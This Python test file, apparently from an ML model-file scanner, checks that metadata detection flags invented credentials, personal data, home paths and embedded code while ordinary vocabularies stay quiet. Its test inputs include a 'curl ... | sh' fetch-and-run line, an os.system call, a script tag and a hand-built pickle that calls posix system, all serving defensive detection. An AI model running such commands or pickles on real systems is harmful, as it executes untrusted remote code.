"""Texts beside the numbers: credentials, persons, home folders and program text are told, and vocabularies stay quiet."""

from __future__ import annotations

from pathlib import Path

import pytest

from mlguard.findings import Detection, Record
from mlguard.scanners.model import new_state, policy, texts
from mlguard.scanners.model.source import View
from tests.builders import assemble

# Invented, and put together here so that no whole one stands in this repository.
TOKEN = "hf_" + "QzXcVbNmAsDfGhJkLp" + "QwErTyUiOpZxCvBn"
AWS = "AKIA" + "QX7RJ2NM4PLT" + "W6VB"
EMAIL = "w.kanarien" + "@" + "postkasten-nord.de"
IBAN = "DE44 5001" + " 0517 5407 " + "3249 31"
KEY = (
    "-----BEGIN RSA PRIVATE "
    + "KEY-----\nMIIEowIBAAKCAQEAkanarienvogelschluessel0123456789\n-----END RSA PRIVATE KEY-----"
)
NAMES = [
    "Anna Schmidt",
    "Jürgen Müller",
    "Marie Dupont",
    "Giulia Rossi",
    "John Smith",
    "Sophie Martin",
    "Peter Weber",
    "Laura Bianchi",
]


def told(*pairs: tuple[str, str]) -> list[Record]:
    state = new_state("m.gguf", policy.shipped())
    view = View(b"", 0, 0, "m.gguf")
    return list(texts.told(pairs, view, state, "gguf"))


def rules(*pairs: tuple[str, str]) -> set[tuple[str, str]]:
    return {(record.rule, record.check) for record in told(*pairs) if isinstance(record, Detection)}


@pytest.mark.parametrize(
    ("key", "text", "rule", "check"),
    [
        ("general.description", f"token {TOKEN}", "secret/exposed-ml-service-token", "token"),
        ("note", f"key {AWS}", "secret/credential-in-ml-artifact", "credential"),
        ("note", KEY, "secret/committed-private-key", "private-key"),
        ("__metadata__.password", "Tr0ub4dor&" + "Kanari9", "secret/credential-in-ml-artifact", "credential"),
        ("general.author", EMAIL, "model/leaked-developer-metadata", "email"),
        ("train.path", "/home/mmusterfrau/data/x.csv", "model/leaked-developer-metadata", "home-path"),
        ("train.path", "C:\\Users\\mmusterfrau\\x.csv", "model/leaked-developer-metadata", "home-path"),
        ("train.path", "/Users/mmusterfrau", "model/leaked-developer-metadata", "home-path"),
        ("run.hostname", "workstation-17", "model/leaked-developer-metadata", "account"),
        ("note", f"paid from {IBAN}", "model/personal-data-in-model", "remark"),
        ("note", "__import__('os').system('true')", "model/bundled-executable-code", "metadata-code"),
        ("note", "curl -s https://example.com/x | sh", "model/bundled-executable-code", "metadata-code"),
        ("note", "<script>alert(1)</script>", "model/bundled-executable-code", "metadata-code"),
        ("note", "#!/bin/sh\necho example", "model/bundled-executable-code", "metadata-code"),
    ],
)
def test_what_one_text_shows_is_told(key: str, text: str, rule: str, check: str) -> None:
    assert (rule, check) in rules((key, text))


def test_pickle_that_is_written_as_text_is_judged() -> None:
    import base64

    hostile = assemble("PROTO 4\nGLOBAL posix system\nSHORT_BINUNICODE 'true'\nTUPLE1\nREDUCE\nSTOP")
    clean = assemble("PROTO 4\nGLOBAL collections OrderedDict\nEMPTY_TUPLE\nREDUCE\nSTOP")

    assert ("model/bundled-executable-code", "metadata-code") in rules(("x", base64.b64encode(hostile).decode()))
    assert rules(("x", base64.b64encode(clean).decode())) == set()


@pytest.mark.parametrize("values", [[f"w{n}.kanarien" + f"@postkasten-nord{n}.de" for n in range(8)], NAMES])
def test_classes_that_are_persons_are_told(values: list[str]) -> None:
    assert ("model/personal-data-in-model", "column") in rules(*(("classes_", value) for value in values))


@pytest.mark.parametrize(
    "values",
    [
        [f"token{n}" for n in range(20_000)],
        ["Ġthe", "##ing", "<s>", "@", "▁http", "://", "www", ".com", "12345678", "1234567890", "2024", "user", "@@", "John", "Mary"] * 50,
        ["New York", "Los Angeles", "San Diego", "Las Vegas", "Hong Kong", "Buenos Aires", "Rio Grande", "Santa Fe"],
        ["Red Wine", "White Bread", "Golden Retriever", "German Shepherd", "Great Dane", "Siamese Cat", "Polar Bear", "Grizzly Bear"],
        ["__import__", "os.system(", "eval(", "<script", "subprocess.run(", "import os"] * 20,
        ["feature_1", "age", "mean radius", "worst concave points", "0", "1.5", "2024-01-01"],
    ],
    ids=["words", "pieces", "cities", "animals", "code pieces", "features"],
)  # fmt: skip
def test_vocabularies_and_labels_of_things_stay_quiet(values: list[str]) -> None:
    assert rules(*(("tokenizer.ggml.tokens", value) for value in values)) == set()


@pytest.mark.parametrize(
    "text", ["pt", "/home/user/x", "/root/model", "/tmp/run", "Apache-2.0", "https://huggingface.co/org/model", "tokenizer", "1" * 40, "a" * 64,
             "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "The model was trained to import data and eval it."],
)  # fmt: skip
def test_ordinary_metadata_stays_quiet(text: str) -> None:
    assert rules(("general.tokenizer", text)) == set()


def test_no_text_reaches_a_record(tmp_path: Path) -> None:
    values = [TOKEN, EMAIL, IBAN, KEY, "/home/mmusterfrau/x", *NAMES]
    records = told(*((f"a {value}", value) for value in values), *(("classes_", value) for value in NAMES))

    assert records
    shown = repr(records)
    assert [
        value for value in (TOKEN, EMAIL, IBAN, "kanarienvogel", "mmusterfrau", "Schmidt", "Dupont") if value in shown
    ] == []


def test_too_much_text_is_a_gap(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(texts, "MAX_CHARS", 100)

    assert any(getattr(record, "kind", "") == "too-large" for record in told(*(("x", "y" * 60) for _ in range(4))))
